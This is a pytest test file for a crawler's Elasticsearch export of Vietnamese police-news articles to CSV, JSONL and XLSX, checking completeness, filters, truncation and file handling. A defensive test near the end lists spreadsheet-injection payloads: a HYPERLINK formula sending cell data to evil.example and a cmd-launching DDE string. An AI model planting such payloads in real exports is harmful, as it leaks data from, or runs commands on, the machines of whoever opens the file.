"""`crawler export` and /api/export against a real Elasticsearch: every matching article
exactly once across point-in-time pages, the columns, the three formats read back."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest
from elasticsearch import Elasticsearch

from crawler.commands.export import _to_file
from crawler.es.bulk import bulk_index
from crawler.es.document import article_document
from crawler.es.index import ensure_index
from crawler.es.search import SearchRequest
from crawler.export import (
    HEADER,
    TRUNCATED,
    XLSX_CELL_LIMIT,
    export,
    write_xlsx,
)
from crawler.items import Article
from pipelines.normalize import normalize_article
from tests.conftest import drop_alias, free_port, run_cli, served

ARTICLES = 1_234  # more than one page of the exports below (page_size 100 or 500)
PROVINCES = [("sonla", "Sơn La", "Sơn La"), ("thaibinh", "Thái Bình", "Hưng Yên"),
             ("hue", "Thừa Thiên Huế", "Huế")]  # fmt: skip
LONG_ID = "gen-long"  # an article whose body passes Excel's cell limit
REPLAYED_ID = "gen-replayed"  # a replayed file: its file: address is not exported


def generated(number: int) -> dict:
    slug, province, current = PROVINCES[number % len(PROVINCES)]
    item = Article(
        id=f"gen-{number:05d}",
        url=f"https://congan.{slug}.gov.vn/tin/{number}.html",
        source="site", site=slug, province=province, province_current=current,
        title=f"Công an {province} triệt phá đường dây ma túy số {number}",
        lead="Lực lượng chức năng bắt giữ các đối tượng.",
        body=[f"Đoạn một của bài {number}.", "Đoạn hai: “trích dẫn”, dấu phẩy; và xuống dòng."],
        authors=["Thái Hòa", "Minh Đức"] if number % 2 else ["Thái Hòa"],
        category=["An ninh trật tự"],
        published=f"20{20 + number % 6}-{1 + number % 12:02d}-{1 + number % 28:02d}T08:00:00+07:00",
        entities=[{"type": "PER", "normalized": "Nguyễn Hồng Phong"},
                  {"type": "ORG", "normalized": f"Công an tỉnh {province}"},
                  {"type": "LOC", "normalized": "xã Mường Giàng"}],
    )  # fmt: skip
    return article_document(normalize_article(item))


def specials() -> list[dict]:
    long = Article(id=LONG_ID, url="https://congan.sonla.gov.vn/tin/dai.html", source="site",
                   site="sonla", province="Sơn La", province_current="Sơn La",
                   title="Bài rất dài về phòng cháy", body=["Chữ dài " * 5000] * 2)  # fmt: skip
    replayed = Article(id=REPLAYED_ID, url="file:///home/someone/seeds/001.txt", source="seed",
                       title="Bài từ tệp phát lại", seed_path="/home/someone/seeds/001.txt",
                       body=["Không có ngày đăng."])  # fmt: skip
    return [article_document(normalize_article(a)) for a in (long, replayed)]


@pytest.fixture(scope="module")
def alias(es_url: str) -> Iterator[str]:
    name = f"test-export-{uuid.uuid4().hex[:8]}"
    with Elasticsearch(es_url, request_timeout=120) as client:
        ensure_index(client, name)
        docs = [generated(n) for n in range(ARTICLES)] + specials()
        for start in range(0, len(docs), 500):
            failed = [r for _, r in bulk_index(client, name, docs[start : start + 500]) if r]
            assert not failed, failed[:3]
        client.indices.refresh(index=name)
    yield name
    drop_alias(es_url, name)


@pytest.fixture
def env(es_url: str, alias: str) -> dict[str, str]:
    return {**os.environ, "ES_URL": es_url, "ES_INDEX": alias}


def jsonl_rows(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no BOM: Excel would not read it as UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_sheets(path: Path) -> dict[str, list[list[str]]]:
    """The rows of every sheet, read with zipfile and the sheets' XML as Excel would."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    sheets = {}
    with zipfile.ZipFile(path) as book:
        names = [s.get("name") for s in ElementTree.fromstring(
            book.read("xl/workbook.xml")).iterfind("m:sheets/m:sheet", ns)]  # fmt: skip
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))
                      for si in strings.iterfind("m:si", ns)]  # fmt: skip
        for number, name in enumerate(names, 1):
            rows = []
            root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            for xml_row in root.iterfind("m:sheetData/m:row", ns):
                cells = [""] * len(HEADER)
                for cell in xml_row.iterfind("m:c", ns):
                    letters = re.match(r"[A-Z]+", cell.get("r")).group()
                    col = 0
                    for letter in letters:
                        col = col * 26 + ord(letter) - 64
                    text = "".join(t.text or "" for t in cell.iter(f"{{{ns['m']}}}t"))
                    if cell.get("t") == "s":
                        text = shared[int(cell.find("m:v", ns).text)]
                    cells[col - 1] = text
                rows.append(cells)
            sheets[name] = rows
    return sheets


def open_contexts(es: Elasticsearch) -> int:
    """Search contexts (points in time among them) open on the node."""
    nodes = es.nodes.stats(metric="indices", index_metric="search")["nodes"]
    return sum(node["indices"]["search"]["open_contexts"] for node in nodes.values())


def test_every_article_exactly_once_across_pages_newest_first(es: Elasticsearch, alias: str):
    out = io.BytesIO()
    progress: list[tuple[int, int]] = []
    counts = export(es, alias, SearchRequest(), "jsonl", out,
                    lambda done, total: progress.append((done, total)), page_size=100)  # fmt: skip
    rows = jsonl_rows(out.getvalue())
    ids = [r["id"] for r in rows]
    assert len(ids) == len(set(ids)) == ARTICLES + 2
    assert (counts.articles, counts.total) == (ARTICLES + 2, ARTICLES + 2)
    assert len(progress) == 13
    assert progress[-1] == (ARTICLES + 2, ARTICLES + 2)
    dated = [r["published"] for r in rows if r["published"]]
    assert dated == sorted(dated, reverse=True)
    assert rows[-1]["id"] in (LONG_ID, REPLAYED_ID)
    assert rows[-1]["published"] is None
    assert open_contexts(es) == 0  # the point in time is closed


def test_republished_stories_are_all_exported_not_grouped(es: Elasticsearch, alias: str):
    """The search page groups republications; an export is every article."""
    out = io.BytesIO()
    export(es, alias, SearchRequest(q="ma túy"), "jsonl", out)
    assert len(jsonl_rows(out.getvalue())) == ARTICLES


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"province": "Sơn La"}, lambda r: r["province"] == "Sơn La"),
        ({"province": "Hưng Yên"}, lambda r: r["province_current"] == "Hưng Yên"),
        (
            {"site": "hue", "q": "so 8"},
            lambda r: r["site"] == "hue" and r["title"].endswith("số 8"),
        ),
    ],
)
def test_filters_are_honoured(es: Elasticsearch, alias: str, filters, expected) -> None:
    out = io.BytesIO()
    counts = export(es, alias, SearchRequest(**filters), "jsonl", out, page_size=100)
    rows = jsonl_rows(out.getvalue())
    everything = io.BytesIO()
    export(es, alias, SearchRequest(), "jsonl", everything, page_size=500)
    wanted = {r["id"] for r in jsonl_rows(everything.getvalue()) if expected(r)}
    assert wanted
    assert {r["id"] for r in rows} == wanted
    assert counts.articles == len(rows)


def test_columns_and_values(es: Elasticsearch, alias: str) -> None:
    out = io.BytesIO()
    export(es, alias, SearchRequest(q="số 1003"), "jsonl", out)
    [row] = jsonl_rows(out.getvalue())
    assert list(row) == HEADER == [
        "id", "url", "title", "published", "province", "province_current", "site",
        "category", "authors", "lead", "body", "people", "organizations", "places",
    ]  # fmt: skip
    assert row["id"] == "gen-01003"
    assert row["url"] == "https://congan.thaibinh.gov.vn/tin/1003.html"
    assert row["title"] == "Công an Thái Bình triệt phá đường dây ma túy số 1003"
    assert row["published"] == "2021-08-24T08:00:00+07:00"
    assert row["site"] == "thaibinh"
    assert row["category"] == ["An ninh trật tự"]
    assert row["lead"] == "Lực lượng chức năng bắt giữ các đối tượng."
    assert row["province"] == "Thái Bình"
    assert row["province_current"] == "Hưng Yên"
    assert row["authors"] == ["Thái Hòa", "Minh Đức"]
    assert row["body"] == [
        "Đoạn một của bài 1003.",
        "Đoạn hai: “trích dẫn”, dấu phẩy; và xuống dòng.",
    ]
    assert "Nguyễn Hồng Phong" in row["people"]
    assert row["places"]
    assert any("Thái Bình" in o for o in row["organizations"])


def test_cli_csv_reads_back_with_vietnamese_intact(env, tmp_path: Path) -> None:
    target = tmp_path / "ma túy.csv"
    result = run_cli("export", "ma túy", "--province", "Thái Bình", "-o", str(target), env=env)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == f"exported 411 articles to {target}"
    rows = csv_rows(target.read_bytes())
    assert rows[0] == HEADER
    assert len(rows) == 1 + 411
    by_id = {r[0]: dict(zip(HEADER, r, strict=True)) for r in rows[1:]}
    row = by_id["gen-00001"]
    assert row["title"] == "Công an Thái Bình triệt phá đường dây ma túy số 1"
    assert row["body"] == "Đoạn một của bài 1.\n\nĐoạn hai: “trích dẫn”, dấu phẩy; và xuống dòng."
    assert row["authors"] == "Thái Hòa; Minh Đức"
    assert row["province_current"] == "Hưng Yên"
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left beside it


def test_cli_jsonl_to_stdout_and_replayed_paths_left_out(env) -> None:
    result = run_cli("export", "--format", "jsonl", "-o", "-", "tệp phát lại", env=env)
    assert result.returncode == 0, result.stderr
    [row] = [json.loads(line) for line in result.stdout.splitlines()]
    assert row["id"] == REPLAYED_ID
    assert row["url"] is None
    assert "/home/someone" not in result.stdout
    assert result.stderr.splitlines()[-1] == "exported 1 articles to standard output"


def test_cli_xlsx_opens_and_long_cells_are_cut_once_said(env, tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    result = run_cli("export", "--province", "Sơn La", "-o", str(target), env=env)
    assert result.returncode == 0, result.stderr
    sheets = xlsx_sheets(target)
    [(name, rows)] = sheets.items()
    assert name == "Bài viết"
    assert rows[0] == HEADER
    assert len(rows) == 1 + 412 + 1
    by_id = {r[0]: dict(zip(HEADER, r, strict=True)) for r in rows[1:]}
    assert by_id["gen-00003"]["title"] == "Công an Sơn La triệt phá đường dây ma túy số 3"
    long = by_id[LONG_ID]["body"]
    assert len(long) == XLSX_CELL_LIMIT
    assert long.endswith(TRUNCATED)
    notes = [line for line in result.stderr.splitlines() if "cut" in line]
    assert len(notes) == 1
    assert "1 cell" in notes[0]


def test_xlsx_goes_on_in_a_new_sheet_past_the_row_limit(es, alias, tmp_path: Path) -> None:
    target = tmp_path / "many.xlsx"
    counts = write_xlsx(es, alias, SearchRequest(q="ma túy"), target, rows_per_sheet=500)
    sheets = xlsx_sheets(target)
    assert list(sheets) == ["Bài viết", "Bài viết 2", "Bài viết 3"]
    assert all(rows[0] == HEADER for rows in sheets.values())
    ids = [r[0] for rows in sheets.values() for r in rows[1:]]
    assert len(ids) == len(set(ids)) == counts.articles == ARTICLES


def test_unreachable_elasticsearch_exits_2_with_one_line_and_no_file(tmp_path: Path) -> None:
    url = f"http://127.0.0.1:{free_port()}"
    env = {**os.environ, "ES_URL": url, "ES_INDEX": "articles"}
    target = tmp_path / "out.csv"
    result = run_cli("export", "ma túy", "-o", str(target), env=env)
    assert result.returncode == 2
    [line] = result.stderr.splitlines()
    assert url in line
    assert "ES_URL" in line
    assert f"{target} not written" in line
    assert list(tmp_path.iterdir()) == []


def test_missing_index_exits_2_and_keeps_an_older_file(es_url: str, tmp_path: Path) -> None:
    env = {**os.environ, "ES_URL": es_url, "ES_INDEX": f"missing-{uuid.uuid4().hex[:8]}"}
    target = tmp_path / "out.jsonl"
    target.write_text("an older export\n")
    result = run_cli("export", "-o", str(target), env=env)
    assert result.returncode == 2
    [line] = result.stderr.splitlines()
    assert "no index" in line
    assert es_url in line
    assert target.read_text() == "an older export\n"
    assert list(tmp_path.iterdir()) == [target]


def test_an_interrupted_export_leaves_no_half_file(es, alias, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"

    def stop(done: int, total: int) -> None:
        if done >= 200:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        _to_file(target, "csv", lambda out: export(es, alias, SearchRequest(), "csv", out,
                                                   stop, page_size=100))  # fmt: skip
    assert list(tmp_path.iterdir()) == []


def test_format_from_suffix_and_bad_suffix(env, tmp_path: Path) -> None:
    result = run_cli("export", "-o", str(tmp_path / "out.txt"), env=env)
    assert result.returncode == 2
    assert "--format" in result.stderr
    result = run_cli("export", "--format", "xlsx", "-o", "-", env=env)
    assert result.returncode == 2
    assert len(result.stderr.splitlines()) == 1


def test_api_export_gives_the_rows_of_the_cli(es_url, alias, env, tmp_path: Path) -> None:
    from crawler.web.app import create_app

    target = tmp_path / "cli.csv"
    assert run_cli("export", "ma tuy", "--site", "hue", "-o", str(target), env=env).returncode == 0
    params = {"q": "ma tuy", "site": "hue", "page": 3, "size": 5}  # paging is not an export's
    with served(create_app(Elasticsearch(es_url), alias)) as base:
        answers = {fmt: httpx.get(f"{base}/api/export", params={**params, "format": fmt},
                                  timeout=60) for fmt in ("csv", "jsonl", "xlsx")}  # fmt: skip
        missing = httpx.get(f"{base}/api/export", params={"format": "pdf"}, timeout=60)
    for fmt, answer in answers.items():
        assert answer.status_code == 200, answer.text[:300]
        assert re.fullmatch(
            rf'attachment; filename="tin-cong-an-\d{{4}}-\d\d-\d\d\.{fmt}"',
            answer.headers["content-disposition"],
        )
    assert csv_rows(answers["csv"].content) == csv_rows(target.read_bytes())
    assert len(csv_rows(target.read_bytes())) == 1 + 411
    ids = [r["id"] for r in jsonl_rows(answers["jsonl"].content)]
    assert ids == [r[0] for r in csv_rows(target.read_bytes())[1:]]
    book = tmp_path / "api.xlsx"
    book.write_bytes(answers["xlsx"].content)
    [rows] = xlsx_sheets(book).values()
    assert [r[0] for r in rows[1:]] == ids
    assert missing.status_code == 422
    with Elasticsearch(es_url) as es:
        assert open_contexts(es) == 0


def test_api_export_of_a_missing_index_is_404_not_a_cut_file(es_url) -> None:
    from crawler.web.app import create_app

    with served(create_app(Elasticsearch(es_url), "missing-index")) as base:
        answer = httpx.get(f"{base}/api/export", params={"format": "csv"}, timeout=60)
    assert answer.status_code == 404
    assert "content-disposition" not in answer.headers


FORMULAS = {  # what a third party can put in a title, lead or body, and the cell Excel gets
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây") ma túy': "'=HYPERLINK(",
    "@SUM(1+1) lừa đảo": "'@SUM(1+1)",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3 tiêu đề": "'-2+3",
}


def test_csv_cells_that_start_like_a_formula_are_text_in_excel(es_url, tmp_path: Path) -> None:
    from crawler.web.app import create_app

    name = f"test-formula-{uuid.uuid4().hex[:8]}"
    titles = list(FORMULAS)
    docs = [
        article_document(Article(
            id=f"f-{n}", url=f"https://congan.sonla.gov.vn/tin/f{n}.html", source="site",
            site="sonla", province="Sơn La", title=title, lead=titles[(n + 1) % len(titles)],
            authors=[titles[(n + 2) % len(titles)]],
            body=["- Ngày 12/3, Công an huyện bắt giữ 2 đối tượng.", "Đoạn hai."],
            published=f"2024-0{n + 1}-01T08:00:00+07:00",
        ))
        for n, title in enumerate(titles)
    ]  # fmt: skip
    with Elasticsearch(es_url) as client:
        ensure_index(client, name)
        assert not [r for _, r in bulk_index(client, name, docs) if r]
        client.indices.refresh(index=name)
    env = {**os.environ, "ES_URL": es_url, "ES_INDEX": name}
    target = tmp_path / "out.csv"
    assert run_cli("export", "-o", str(target), env=env).returncode == 0
    with served(create_app(Elasticsearch(es_url), name)) as base:
        api = {fmt: httpx.get(f"{base}/api/export", params={"format": fmt}, timeout=60)
               for fmt in ("csv", "jsonl")}  # fmt: skip
    assert csv_rows(api["csv"].content) == csv_rows(target.read_bytes())
    rows = [dict(zip(HEADER, r, strict=True)) for r in csv_rows(target.read_bytes())[1:]]
    assert len(rows) == len(FORMULAS)
    for r in rows:
        for column in ("title", "lead", "authors"):
            assert r[column][:1] == "'", (column, r[column])
            assert any(r[column].startswith(shown) for shown in FORMULAS.values()), r[column]
            assert r[column][1:] in FORMULAS
        # A Vietnamese list item (a dash, then a space) is not a formula: kept as written.
        assert r["body"].startswith("- Ngày 12/3, Công an")
        assert r["id"].startswith("f-")
    # JSONL keeps the values as they are.
    assert {r["title"] for r in jsonl_rows(api["jsonl"].content)} == set(FORMULAS)
    drop_alias(es_url, name)


@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
def test_an_output_that_is_not_a_regular_file_is_refused_untouched(env, tmp_path, kind) -> None:
    import stat

    target = tmp_path / f"out-{kind}.csv"
    if kind == "folder":
        target.mkdir()
    elif kind == "fifo":
        os.mkfifo(target)
    else:  # a copy of /dev/full, never the real one: an old version renamed over it
        if os.geteuid() != 0:
            pytest.skip("making a device needs root")
        os.mknod(target, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    before = os.stat(target)
    result = run_cli("export", "-o", str(target), env=env)
    assert result.returncode == 2
    [line] = result.stderr.splitlines()
    assert str(target) in line
    assert "-o -" in line
    after = os.stat(target)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (
        before.st_mode, before.st_ino, before.st_rdev)  # fmt: skip
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]


def test_a_symlink_is_followed_and_a_private_file_stays_private(env, tmp_path: Path) -> None:
    real = tmp_path / "real" / "target.csv"
    real.parent.mkdir()
    real.write_text("old")
    os.chmod(real, 0o600)
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    result = run_cli("export", "ma túy", "--province", "Thái Bình", "-o", str(link), env=env)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink()
    assert os.readlink(link) == str(real)
    assert len(csv_rows(real.read_bytes())) == 1 + 411
    assert os.stat(real).st_mode & 0o777 == 0o600
    assert sorted(p.name for p in real.parent.iterdir()) == ["target.csv"]  # no .part left
    # A file that did not exist gets the umask's mode, as any new file.
    fresh = tmp_path / "fresh.csv"
    assert run_cli("export", "zzzkhongco", "-o", str(fresh), env=env).returncode == 0
    umask = os.umask(0)
    os.umask(umask)
    assert os.stat(fresh).st_mode & 0o777 == 0o666 & ~umask
